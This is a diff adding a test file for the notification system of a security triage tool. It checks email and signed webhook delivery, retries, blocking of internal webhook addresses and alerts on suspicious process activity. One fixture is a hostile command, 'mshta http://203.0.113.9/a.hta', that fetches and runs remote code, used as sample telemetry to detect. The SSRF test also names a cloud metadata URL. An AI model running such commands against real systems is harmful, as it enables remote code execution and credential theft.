@@ -1,0 +1,250 @@
+import { createHmac } from 'node:crypto'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { text as readText } from 'node:stream/consumers'
+import { SMTPServer } from 'smtp-server'
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
+import { assignDeviation } from '@/lib/operations/assign-deviation'
+import { commentDeviation } from '@/lib/operations/comment-deviation'
+import { ingestExamples } from '@/lib/operations/ingest/example-use'
+import { recompute } from '@/lib/operations/recompute/recompute'
+import { createTriageExamples, itemOf, type TriageExamples } from '@/lib/operations/triage-examples'
+import { followAudit } from '@/lib/store/notifications/follow'
+import { readClock, tellOfNewDeviations } from '@/lib/store/notifications/new-deviations'
+import { closePool, pool } from '@/lib/store/pool'
+import { findWebhook, listDeliveries, listInbox } from '@/lib/store/screens/notifications'
+import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
+import { chooseNotification, removeWebhook, sendTestNotification, setWebhook } from './choices'
+import { deliverDue } from './deliver'
+import { readNotifications, retryDelivery } from './inbox'
+import { openChannels } from './run-notifier'
+
+type Received = { headers: http.IncomingHttpHeaders; body: string }
+
+let database: TestDatabase
+let examples: TriageExamples
+let smtp: SMTPServer
+let receiver: http.Server
+let hook: string
+const mails: string[] = []
+const posts: Received[] = []
+/** What the receiver answers next; 200 when empty. */
+const answers: number[] = []
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  process.env['APP_DATABASE_URL'] = database.appUrl
+  process.env['AUTH_SECRET'] = 'a secret of thirty-two characters'
+  process.env['CORDON_BASE_URL'] = 'https://cordon.example.org'
+  smtp = new SMTPServer({
+    authOptional: true,
+    disabledCommands: ['STARTTLS'],
+    onData: (stream, _session, done) => {
+      void readText(stream).then((mail) => {
+        // quoted-printable breaks long lines
+        mails.push(mail.replaceAll('=\r\n', ''))
+        done()
+      })
+    },
+  })
+  await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve))
+  process.env['CORDON_SMTP_URL'] = `smtp://127.0.0.1:${(smtp.server.address() as AddressInfo).port}`
+  process.env['CORDON_SMTP_FROM'] = 'cordon@example.org'
+  receiver = http.createServer(async (request, response) => {
+    posts.push({ headers: request.headers, body: await readText(request) })
+    const status = answers.shift() ?? 200
+    response
+      .writeHead(status, status === 302 ? { location: 'http://127.0.0.1/elsewhere' } : {})
+      .end('no \u001b[31m')
+  })
+  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
+  hook = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`
+  examples = await createTriageExamples()
+})
+afterAll(async () => {
+  await new Promise<void>((resolve) => smtp.close(() => resolve()))
+  await new Promise((resolve) => receiver.close(resolve))
+  await closePool()
+  await database.drop()
+})
+beforeEach(async () => {
+  process.env['CORDON_WEBHOOK_PRIVATE'] = '127.0.0.1/32'
+  mails.length = 0
+  posts.length = 0
+  answers.length = 0
+  await pool().query('DELETE FROM notification')
+  await pool().query('DELETE FROM notification_choice')
+  await pool().query('DELETE FROM webhook')
+  await followAudit(pool(), openChannels())
+  await pool().query('DELETE FROM notification')
+})
+
+const EVERYTHING = { inApp: true, email: true, webhook: true, minScoreMillibits: null }
+
+async function assignToGus(): Promise<string> {
+  const { id, version } = await itemOf('scrobj')
+  await assignDeviation(examples.responder, { id, version, assigneeId: examples.groupResponder.accountId })
+  return id
+}
+
+test('who is given a deviation is told of it once, as they chose, and who gave it is not', async () => {
+  const gus = examples.groupResponder
+  const secret = await setWebhook(gus, hook)
+  await chooseNotification(gus, { event: 'deviation-assigned', ...EVERYTHING })
+  const id = await assignToGus()
+  await followAudit(pool(), openChannels())
+  await followAudit(pool(), openChannels())
+  const [told, ...more] = await listInbox(gus.accountId)
+  expect(more).toEqual([])
+  expect(told).toMatchObject({
+    title: 'A deviation was assigned to you: Regsvr32.exe',
+    href: `/deviations/${id}`,
+    readAt: null,
+  })
+  expect(await listInbox(examples.responder.accountId)).toEqual([])
+
+  expect(await deliverDue(pool())).toBe(2)
+  expect(await deliverDue(pool())).toBe(0)
+  expect(mails).toHaveLength(1)
+  expect(mails[0]).toContain('To: gus <gus@example.org>')
+  expect(mails[0]).toContain('Subject: A deviation was assigned to you: Regsvr32.exe')
+  expect(mails[0]).toContain(`https://cordon.example.org/deviations/${id}`)
+  expect(posts).toHaveLength(1)
+  const { headers, body } = posts[0] ?? { headers: {}, body: '' }
+  expect(JSON.parse(body)).toMatchObject({
+    id: told?.id,
+    event: 'deviation-assigned',
+    url: `https://cordon.example.org/deviations/${id}`,
+    account: { email: 'gus@example.org' },
+  })
+  const [, timestamp = '', signature] =
+    /^t=(\d+),v1=([0-9a-f]{64})$/.exec(String(headers['cordon-signature'])) ?? []
+  expect(signature).toBe(createHmac('sha256', secret).update(`${timestamp}.${body}`).digest('hex'))
+  expect(await listDeliveries(gus.accountId)).toMatchObject([{ state: 'sent' }, { state: 'sent' }])
+
+  await readNotifications(gus, { throughId: told?.id ?? '' })
+  expect(await listInbox(gus.accountId)).toMatchObject([{ readAt: expect.any(Number) }])
+})
+
+test('a note on what is assigned to somebody is told to them, and their own note to nobody', async () => {
+  const gus = examples.groupResponder
+  const id = await assignToGus()
+  const note = async (by: typeof gus) =>
+    await commentDeviation(by, { ...(await itemOf('scrobj')), note: 'Asked the owner' })
+  await note(gus)
+  await note(examples.responder)
+  await followAudit(pool(), openChannels())
+  const told = await listInbox(gus.accountId)
+  expect(told.map(({ event }) => event)).toEqual(['deviation-noted', 'deviation-assigned'])
+  expect(told[0]?.href).toBe(`/deviations/${id}`)
+})
+
+test('a receiver that fails is tried again later under the same number, and given up after the last time', async () => {
+  const gus = examples.groupResponder
+  await setWebhook(gus, hook)
+  await sendTestNotification(gus, 'webhook')
+  const again = async () => {
+    await pool().query('UPDATE notification_delivery SET next_at = now()')
+    await deliverDue(pool())
+    return (await listDeliveries(gus.accountId))[0]
+  }
+  answers.push(500, 302)
+  expect(await again()).toMatchObject({
+    state: 'queued',
+    attempts: 1,
+    error: 'The receiver answered 500: no [31m',
+  })
+  expect(await deliverDue(pool())).toBe(0)
+  expect(await again()).toMatchObject({ error: expect.stringContaining('302: redirects are not followed') })
+  expect(await again()).toMatchObject({ state: 'sent', attempts: 3, error: null })
+  expect(posts).toHaveLength(3)
+  expect(new Set(posts.map(({ headers }) => headers['cordon-delivery'])).size).toBe(1)
+
+  await sendTestNotification(gus, 'webhook')
+  answers.push(...Array.from({ length: 7 }, () => 503))
+  for (let attempt = 0; attempt < 7; attempt++) await again()
+  const [failed] = await listDeliveries(gus.accountId)
+  expect(failed).toMatchObject({ state: 'failed', attempts: 7 })
+  expect(await deliverDue(pool())).toBe(0)
+  answers.length = 0
+  await retryDelivery(gus, failed?.id ?? '')
+  await deliverDue(pool())
+  expect((await listDeliveries(gus.accountId))[0]).toMatchObject({ state: 'sent', attempts: 1 })
+  await expect(retryDelivery(examples.responder, failed?.id ?? '')).rejects.toMatchObject({
+    code: 'not-found',
+  })
+})
+
+test('a receiver that says it is gone is not asked again', async () => {
+  const gus = examples.groupResponder
+  await setWebhook(gus, hook)
+  await sendTestNotification(gus, 'webhook')
+  answers.push(410)
+  await deliverDue(pool())
+  expect((await listDeliveries(gus.accountId))[0]).toMatchObject({ state: 'failed', attempts: 1 })
+})
+
+test('an address inside is refused when it is set, and when the name leads there only later', async () => {
+  const gus = examples.groupResponder
+  await setWebhook(gus, hook)
+  await sendTestNotification(gus, 'webhook')
+  process.env['CORDON_WEBHOOK_PRIVATE'] = ''
+  await deliverDue(pool())
+  expect(posts).toEqual([])
+  expect((await listDeliveries(gus.accountId))[0]?.error).toContain('is not a public address')
+  for (const inside of [
+    hook,
+    'https://localhost/',
+    'https://169.254.169.254/latest/meta-data',
+    'ftp://example.org/',
+  ])
+    await expect(setWebhook(gus, inside)).rejects.toMatchObject({ code: 'invalid-input' })
+  await expect(setWebhook(gus, 'https://ada:secret@example.org/')).rejects.toThrow(
+    'Leave name and password out',
+  )
+  await removeWebhook(gus)
+  expect(await findWebhook(gus.accountId)).toBeNull()
+})
+
+test('new deviations are told to who chose so, from the score they chose, in their scope, and many at once together', async () => {
+  const { responder, groupResponder } = examples
+  const settle = async () => {
+    await recompute(pool())
+    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
+  }
+  await settle()
+  await chooseNotification(responder, {
+    event: 'deviation-found',
+    ...EVERYTHING,
+    email: false,
+    minScoreMillibits: 4000,
+  })
+  await chooseNotification(groupResponder, {
+    event: 'deviation-found',
+    ...EVERYTHING,
+    minScoreMillibits: 90_000,
+  })
+  const use = (host: string, commandLine: string) => ({
+    host,
+    at: '2026-01-08T12:00:00Z',
+    image: 'C:\\Windows\\System32\\mshta.exe',
+    commandLine,
+  })
+  await ingestExamples(pool(), [use('ws-3.example', 'mshta http://203.0.113.9/a.hta')])
+  await settle()
+  await settle()
+  const told = await listInbox(responder.accountId)
+  expect(told).toHaveLength(1)
+  expect(told[0]?.title).toMatch(/^New deviation, \d+\.\d bits: Mshta\.exe$/)
+  expect(await listInbox(groupResponder.accountId)).toEqual([])
+
+  const words = 'amber birch cedar dune ember fern grove heath inlet jetty knoll ledge'.split(' ')
+  await ingestExamples(
+    pool(),
+    words.map((word) => use('ws-2.example', `mshta C:\\Users\\Public\\${word}.hta`)),
+  )
+  await settle()
+  const [together, ...before] = await listInbox(responder.accountId)
+  expect(before).toHaveLength(1)
+  expect(together?.title).toMatch(/^12 new deviations, the highest \d+\.\d bits: Mshta\.exe$/)
+})
